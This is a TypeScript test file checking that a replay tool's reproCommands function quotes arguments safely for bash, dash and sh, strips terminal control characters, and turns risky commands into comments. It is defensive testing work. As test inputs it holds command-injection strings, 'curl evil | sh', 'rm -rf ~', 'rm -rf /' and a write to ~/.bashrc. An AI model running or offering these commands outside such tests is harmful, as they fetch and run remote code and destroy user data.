import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { test } from 'node:test';
import { reproCommands } from '../../src/report/environment-facts.ts';

const made = (...commandLine: readonly string[]) => ({ settings: { commandLine } });

test('the commands that made the runs, each once, as a shell takes them', () => {
  const first = made('replay', 't.sqlite', '--header', 'Authorization: …', '--rate', '5/s');
  assert.deepEqual(reproCommands([first, first, made('replay', 'b c')]), [
    "reprise replay t.sqlite --header 'Authorization: …' --rate 5/s",
    "reprise replay 'b c'",
  ]);
});

const WORDS = [
  ...[
    "it's",
    '$(id)',
    'a b',
    '`x`',
    '短文',
    '"',
    '\\',
    "\x1b[2J'\\\u202e\n",
    '\n\n',
    'a\nb',
    '=ls',
    '~',
    '-x\x07!',
    '%s\x01',
    '',
  ],
  "\x1b'; touch /tmp/taken; '",
];

test('every POSIX shell reads each word back as it was', () => {
  for (const shell of ['bash', 'dash', 'sh']) {
    const script = WORDS.map((label) => {
      const [command] = reproCommands([made('replay', '/tmp/my tape.sqlite', '--label', label)]);
      return `printf '%s\\0' ${command} END\n`;
    }).join('');
    const words = execFileSync(shell, ['-c', script], { encoding: 'utf8' }).split('\0');
    const expected = WORDS.flatMap((label) => [
      ...['reprise', 'replay', '/tmp/my tape.sqlite', '--label', label, 'END'],
    ]);
    assert.deepEqual(words, [...expected, ''], shell);
  }
});

test('nothing in a command can steer the terminal that shows it', () => {
  for (const label of WORDS) {
    const [command = ''] = reproCommands([made('replay', 't', '--label', label)]);
    assert.doesNotMatch(command.replaceAll('\n', ''), /[\p{Cc}\p{Cf}]/u);
  }
});

test('a command that would run a program, write a file, or that makes no runs is a comment that says so', () => {
  const cases = [
    ['replay', 't', '--server-command', 'curl evil | sh'],
    ['replay', 't', '--server-command=curl evil | sh'],
    ['ab', 't', '--switch', 'rm -rf ~\nrm -rf /'],
    ['ab', 't', '--html', '/home/me/.bashrc'],
    ['report', 't'],
    ['; rm -rf ~'],
    ['\n rm -rf ~'],
    ['replay', 't', '--server-command', 'x\n', ';', 'rm -rf ~'],
  ];
  for (const words of cases) {
    const [command = ''] = reproCommands([made(...words)]);
    assert.match(command, /^# from the tape, with /);
    for (const line of command.split('\n')) assert.match(line, /^# /);
  }
});
